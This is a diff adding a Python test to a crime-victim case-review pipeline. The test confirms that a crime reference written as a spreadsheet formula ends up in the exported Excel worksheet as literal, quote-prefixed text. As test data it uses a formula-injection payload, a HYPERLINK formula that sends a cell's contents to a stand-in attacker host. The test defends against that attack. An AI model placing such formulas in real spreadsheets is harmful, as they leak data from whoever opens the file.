@@ -131,3 +131,38 @@ def test_writing_the_same_sample_twice_gives_identical_bytes(sqlite_force_engine
     properties = load_workbook(worksheets[0]).properties
     assert properties.created == properties.modified == pd.Timestamp("2026-04-01T00:00:00").to_pydatetime() \
         - pd.Timedelta(hours=1)  # the first instant after the quarter: 1 April 00:00 BST
+
+
+HOSTILE_REF = '=HYPERLINK("http://evil.example/?"&A1,"Open the case file")'
+
+
+def _insert_hostile_crime(engine) -> None:
+    """A crime whose reference is a spreadsheet formula, put straight into the warehouse (as if
+    it had slipped past validation at ingest), with a victim so it is in the sample's population."""
+    from vcpipeline.warehouse.schema import crimes, victims
+
+    lineage = {"source_system": "crs", "source_row_id": "hostile", "load_batch_id": "test",
+               "extracted_at": pd.Timestamp("2026-04-02T01:00:00Z").to_pydatetime()}
+    with engine.begin() as conn:
+        conn.execute(crimes.insert(), [{
+            "crime_ref": HOSTILE_REF, "reported_at": pd.Timestamp("2026-02-03T10:00:00Z").to_pydatetime(),
+            "department": "IIT", "domestic_abuse": False, "hate_crime": False, **lineage}])
+        conn.execute(victims.insert(), [{
+            "crime_ref": HOSTILE_REF, "victim_id": "V1", "age_at_report": 40, "vulnerable": False,
+            "intimidated": False, "persistently_targeted": False, **lineage}])
+
+
+def test_a_crime_reference_that_looks_like_a_formula_is_written_as_literal_text(sqlite_force_engine, tmp_path):
+    _insert_hostile_crime(sqlite_force_engine)
+    draw_and_store_sample(sqlite_force_engine, "2026Q1", size=500, minimum=5)  # every crime
+    paths = write_worksheets(sqlite_force_engine, "2026Q1", tmp_path / "sample")
+    iit = next(path for path in paths if path.name.endswith("-IIT.xlsx"))
+
+    sheet = load_workbook(iit)[REVIEW_SHEET]
+    cell = next(row[0] for row in sheet.iter_rows(min_row=2) if row[0].value == HOSTILE_REF)
+    assert cell.data_type == "s"  # a text cell showing the literal characters, not a formula
+    assert cell.quotePrefix  # and it stays text if a reviewer edits it
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
+    # The other references are ordinary text cells without the mark.
+    ordinary = next(row[0] for row in sheet.iter_rows(min_row=2) if row[0].value == "IIT-2026Q1-001")
+    assert ordinary.data_type == "s" and not ordinary.quotePrefix
